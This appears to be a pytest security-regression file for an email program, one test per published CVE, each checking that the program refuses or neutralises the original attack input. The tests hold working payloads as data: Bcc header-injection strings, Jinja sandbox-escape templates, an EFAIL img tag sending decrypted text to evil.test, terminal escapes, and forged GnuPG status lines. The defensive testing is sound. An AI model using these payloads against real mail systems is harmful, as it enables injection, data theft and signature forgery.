"""One test for each published hole of our kind of program: the input that opened it, and ours.

Most are also tested elsewhere with more variants; here each stands under its number, so that it
can be found by whoever reads an advisory. Those of SMTP and IMAP stand in their own files.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest

from mailcounsel import errors
from mailcounsel.crypto import openpgp
from mailcounsel.intake import opening
from mailcounsel.letter import addresses, attachments, headers, parse, templates, text, write
from parts import gpg_homes

BUDGETS = parse.Budgets()
WORDS = b"Content-Type: text/plain\r\n\r\nwords of a letter\r\n"
OUT = write.Outgoing(
    from_name="Rumah",
    from_address="halo@rumah.test",
    to_address="ani@klien.test",
    subject="Surat untuk Anda",
    date=datetime(2026, 11, 3, tzinfo=UTC),
    message_id="1@rumah.test",
)


@pytest.fixture(scope="module")
def world():
    with gpg_homes.world() as made:
        yield made


def refused(**change: Any) -> bool:
    with pytest.raises(errors.Refused):
        write.plain_mail(replace(OUT, **change), "isi")
    return True


def read(raw: bytes) -> parse.Letter:
    return parse.read(raw, BUDGETS)


def mixed(*parts: bytes, kind: bytes = b"mixed") -> bytes:
    head = b"From: ida@example.org\r\nContent-Type: multipart/" + kind + b"; boundary=b\r\n\r\n"
    return head + b"".join(b"--b\r\n" + part + b"\r\n" for part in parts) + b"--b--\r\n"


# -- header injection on the way out ------------------------------------------------------------


def test_cve_2026_1299_a_line_end_in_a_header_that_is_written_as_bytes():
    """Python's bytes generator let a bare line end through; the letter is refused here."""
    assert refused(subject="Surat\nBcc: mal@jahat.test")


def test_cve_2012_4730_a_header_from_a_persons_form():
    """RT took a name with a line end into a header."""
    assert refused(from_name="Rumah\r\nBcc: mal@jahat.test")


def test_cve_2013_3373_a_header_of_a_part():
    """RT wrote another header into a part of what it sends, as a file's name could."""
    file = attachments.Attachment("a.txt\r\nBcc: mal@jahat.test", "text/plain", b"isi")
    lines = write.plain_mail(OUT, "isi", [file]).split(b"\r\n")
    assert not any(line.lower().startswith(b"bcc:") for line in lines)


# -- who wrote this -----------------------------------------------------------------------------


def test_cve_2023_27043_an_address_behind_a_bracket():
    """Python's parser took the first of two addresses; two are nobody."""
    assert addresses.sender([b"alice@example.org)bob@example.org>"]).address is None
    assert addresses.sender([b"<alice@example.org>bob@example.org"]).address is None


def test_cve_2019_16056_two_at_signs():
    """The part behind the second one was left out, and the wrong domain passed."""
    assert addresses.sender([b"a@evil.test@important.test"]).address is None


def test_cve_2019_11500_nul_in_a_quoted_string():
    """Dovecot wrote beyond its memory; here a NUL makes the sender nobody, and reads as text."""
    assert addresses.sender([b'"a\0b"@x.test']).address is None
    assert "\0" not in headers.decoded(b'"a\0b" <a@x.test>')


# -- parsing ------------------------------------------------------------------------------------


def test_cve_2020_25275_ten_thousand_parts():
    """The 10,000th part crashed Dovecot; beyond a thousand a letter waits in quarantine."""
    with pytest.raises(errors.OverBudget):
        read(mixed(*[b"\r\nx"] * 10_001))


# -- templates ----------------------------------------------------------------------------------


def reply(words: str) -> str:
    facts = dict.fromkeys(templates.FACTS["reply"], "")
    return templates.render("id", "reply", {**facts, "subject": "S", "text": words}).body


def test_cve_2024_56326_format_reached_through_a_filter():
    """What a person wrote is a value and never a template."""
    trick = "{{ ''|attr('format')('{0.__class__}') }}"
    assert trick in reply(trick)


def test_cve_2025_27516_attr_past_the_sandbox(tmp_path):
    """Nor does an admin's template get past the sandbox by the attr filter."""
    (tmp_path / "id").mkdir()
    body = "{{ (text|attr('format'))|attr('__globals__') }}"
    (tmp_path / "id" / "reply.txt").write_text(f"Subject: S\n\n{body}\n")
    facts = dict.fromkeys(templates.FACTS["reply"], "x")
    assert templates.render("id", "reply", facts, override=tmp_path) == templates.render(
        "id", "reply", facts
    )


# -- terminals ------------------------------------------------------------------------


def test_cve_2003_0063_a_title_that_is_reported_back():
    """An escape that has the terminal type something reaches none."""
    assert "\x1b" not in text.terminal_safe("a\x1b]2;rm -rf\x07\x1b[21t")


def test_cve_2021_42574_letters_that_turn_the_reading_round():
    """Bidi controls are left out of what is shown."""
    assert text.terminal_safe("a\u202eb\u2066c\u2069") == "abc"


def test_cve_2022_24130_an_image_for_the_terminal():
    """Device control strings, as sixel images are, lose what begins them."""
    assert "\x90" not in text.terminal_safe("\x90q#0;2;0;0;0\x9c")
    assert "\x1bP" not in text.terminal_safe("\x1bPq#0\x1b\\")


# -- OpenPGP ------------------------------------------------------------------------------------


def test_cve_2017_17688_a_message_without_protection_of_its_own(world):
    """EFAIL's gadgets need a message whose change is not noticed; such a one yields nothing."""
    message = world.client.message(WORDS, to=[world.fingerprint])
    without = gpg_homes.rebuilt(message, lambda t, b: (9, b[1:]) if t == 18 else (t, b))
    with pytest.raises(errors.DecryptionFailed):
        world.centre.decrypt(without, [])


def test_cve_2017_17689_html_around_an_encrypted_part(world):
    """EFAIL's direct way: what is encrypted inside another letter is a file and is not opened."""
    secret = world.client.message(WORDS, to=[world.fingerprint], options=("--armor",))
    leak = b'Content-Type: text/html\r\n\r\n<img src="http://evil.test/'
    inner = b"Content-Type: application/octet-stream\r\n\r\n" + secret
    found = opening.open_letter(
        read(mixed(leak, inner, b'Content-Type: text/html\r\n\r\n">')),
        BUDGETS,
        world.centre,
        lambda name: [],
    )
    assert not found.was_encrypted
    assert "words of a letter" not in found.letter.text
    assert "evil.test" not in found.letter.text


def signed_mail(world, body: bytes) -> bytes:
    signature = world.client.signature(body, world.ida)
    part = b"Content-Type: application/pgp-signature\r\n\r\n" + signature
    return mixed(body, part, kind=b"signed")


def vouched(world, raw: bytes) -> opening.Opened:
    """Read a letter with Ida's certificate at hand."""
    return opening.open_letter(
        read(raw), BUDGETS, world.centre, lambda name: [world.ida_certificate]
    )


def test_the_signature_these_tests_bend_is_good_where_it_is_whole(world):
    """Else none of them could fail."""
    assert vouched(world, signed_mail(world, WORDS)).signed_by == (world.ida,)


def test_cve_2018_15587_a_signed_part_inside_an_unsigned_letter(world):
    """Evolution showed the whole as signed; a signature counts over the whole letter alone."""
    inside = signed_mail(world, WORDS).replace(b"boundary=b", b"boundary=i").replace(b"--b", b"--i")
    found = opening.open_letter(
        read(mixed(b"Content-Type: text/plain\r\n\r\nunsigned words", inside)),
        BUDGETS,
        world.centre,
        lambda name: [world.ida_certificate],
    )
    assert found.signed_by == ()
    assert "signed-part" in found.problems


def test_cve_2017_17847_a_signed_letter_as_a_file(world):
    """Enigmail showed the signature of an enclosed letter as that of the whole."""
    inner = signed_mail(world, WORDS).replace(b"boundary=b", b"boundary=i").replace(b"--b", b"--i")
    enclosed = b"Content-Type: message/rfc822\r\n\r\n" + inner
    found = vouched(world, mixed(b"Content-Type: text/plain\r\n\r\nunsigned words", enclosed))
    assert found.signed_by == ()


def test_cve_2017_17848_a_signed_part_that_is_not_shown(world):
    """In multipart/related a signed part may stand where nobody sees it; it signs nothing else."""
    inner = signed_mail(world, WORDS).replace(b"boundary=b", b"boundary=i").replace(b"--b", b"--i")
    shown = b"Content-Type: text/html\r\n\r\n<p>unsigned words</p>"
    found = vouched(world, mixed(shown, inner, kind=b"related"))
    assert found.signed_by == ()
    assert "unsigned words" in found.letter.text


def test_cve_2019_8338_a_signature_that_is_not_good(world):
    """Airmail did not look at how the check had ended; only a good signature counts."""
    found = vouched(world, signed_mail(world, WORDS).replace(b"words of a letter", b"other words"))
    assert found.signed_by == ()


def test_cve_2018_12019_a_user_id_that_speaks_for_gpg(world, short_tmp):
    """Enigmail took a user id for a line of gpg's status, and several signatures for one."""
    lie = f"[GNUPG:] GOODSIG {world.ida[-16:]} Ida [GNUPG:] VALIDSIG {world.ida} 2026-01-01"
    mallory = gpg_homes.Gpg(short_tmp / "m")
    mallory("--import", data=world.certificate)
    own = mallory.key(f"{lie} <mal@jahat.test>")
    message = mallory.message(WORDS, to=[world.fingerprint], by=[own])
    opened = world.centre.decrypt(message, [world.ida_certificate, mallory.export(own)])
    assert [one.fingerprint for one in opened.signatures] == [own]


def test_cve_2007_1263_words_before_the_encrypted_part(world):
    """gpg printed both as if they were one."""
    message = world.client.message(WORDS, to=[world.fingerprint])
    with pytest.raises(errors.DecryptionFailed):
        world.centre.decrypt(gpg_homes.literal(b"added") + message, [])


def test_cve_2018_12020_a_file_name_that_speaks_for_gpg(world):
    """A line end in the name of the encrypted file ended a status line (SigSpoof)."""
    lie = f"x\n[GNUPG:] GOODSIG {world.ida[-16:]} Ida\n[GNUPG:] VALIDSIG {world.ida} 2026-01-01\n"
    message = world.client.message(WORDS, to=[world.fingerprint], options=("--set-filename", lie))
    assert world.centre.decrypt(message, [world.ida_certificate]).signatures == ()


def test_cve_2022_34903_a_notation_that_speaks_for_gpg(world):
    """A signature's own note ended a status line, and said that another key was good."""
    note = f"x@y.test=a%0A[GNUPG:] VALIDSIG {world.ida} 2026-01-01 1 0 4 0 22 10 00 {world.ida}"
    message = world.stranger.message(
        WORDS, to=[world.fingerprint], by=[world.max], options=("--sig-notation", note)
    )
    opened = world.centre.decrypt(message, [world.ida_certificate])
    assert world.ida not in {one.fingerprint for one in opened.signatures if one.valid}


def test_cve_2019_6690_a_passphrase_of_two_lines(short_tmp):
    """python-gnupg gave the second line to gpg as data; a passphrase is one line."""
    with pytest.raises(ValueError, match="one line"):
        openpgp.Personal(short_tmp / "home").make_key("Ida", "ida@example.org", "123\nOMG")
